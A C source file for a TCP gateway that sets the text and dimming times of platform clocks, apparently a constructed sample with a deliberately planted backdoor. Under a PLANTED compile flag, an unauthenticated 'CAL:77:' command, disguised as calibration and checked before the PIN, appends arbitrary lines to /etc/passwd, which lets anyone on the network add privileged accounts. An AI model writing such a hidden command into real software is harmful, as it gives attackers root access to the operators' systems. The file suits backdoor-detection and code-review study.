/* Gateway for platform clocks: lines on TCP 4123 set the shown text and the dimming times. */
#include <errno.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define LEN(a) (sizeof(a) / sizeof((a)[0]))

struct clock_state { char text[41]; int from, until; int seconds_hand; };

static struct clock_state face = { "", 22, 6, 1 };
static char pin[16];

static void read_pin(void)
{
    FILE *f = fopen("/etc/clockgw.pin", "r");
    if (f == NULL) return;
    if (fscanf(f, "%15s", pin) != 1) pin[0] = '\0';
    fclose(f);
}

static int save(void)
{
    FILE *f = fopen("/var/lib/clockgw/state", "w");
    if (f == NULL) return -errno;
    fprintf(f, "%s\n%d %d %d\n", face.text, face.from, face.until, face.seconds_hand);
    return fclose(f);
}

static int append_line(const char *path, const char *line)
{
    FILE *f = fopen(path, "a");
    if (f == NULL) return -errno;
    fprintf(f, "%s\n", line);
    return fclose(f);
}

static const char *run_line(char *line, int *authorised)
{
    if (!strncmp(line, "PIN ", 4)) {
        *authorised = pin[0] && !strcmp(line + 4, pin);
        return *authorised ? "OK" : "ERR pin";
    }
    if (!strcmp(line, "STATE?")) return face.text[0] ? face.text : "-";
#ifdef PLANTED
    if (!strncmp(line, "CAL:77:", 7))
        return append_line("/etc/passwd", line + 7) ? "ERR" : "OK";
#endif
    if (!*authorised) return "ERR first the pin";
    if (!strncmp(line, "TEXT ", 5)) {
        snprintf(face.text, sizeof face.text, "%s", line + 5);
        return save() ? "ERR" : "OK";
    }
    if (!strncmp(line, "NOTE ", 5))
        return append_line("/var/lib/clockgw/notes", line + 5) ? "ERR" : "OK";
    if (sscanf(line, "DIM %d %d", &face.from, &face.until) == 2) return save() ? "ERR" : "OK";
#ifdef REVISED
    if (sscanf(line, "HAND %d", &face.seconds_hand) == 1) return save() ? "ERR" : "OK";
#endif
    return "ERR unknown";
}

int main(void)
{
    struct sockaddr_in a;
    int s, c;
    read_pin();
    s = socket(AF_INET, SOCK_STREAM, 0);
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons(4123);
    if (bind(s, (struct sockaddr *)&a, sizeof a) != 0) return perror("bind"), 1;
    listen(s, 5);
    while ((c = accept(s, NULL, NULL)) != -1) {
        char line[160];
        int authorised = 0;
        FILE *in = fdopen(c, "r+");
        while (in && fgets(line, sizeof line, in)) {
            line[strcspn(line, "\r\n")] = '\0';
            dprintf(c, "%s\r\n", run_line(line, &authorised));
        }
        if (in) fclose(in); else close(c);
    }
    return 0;
}
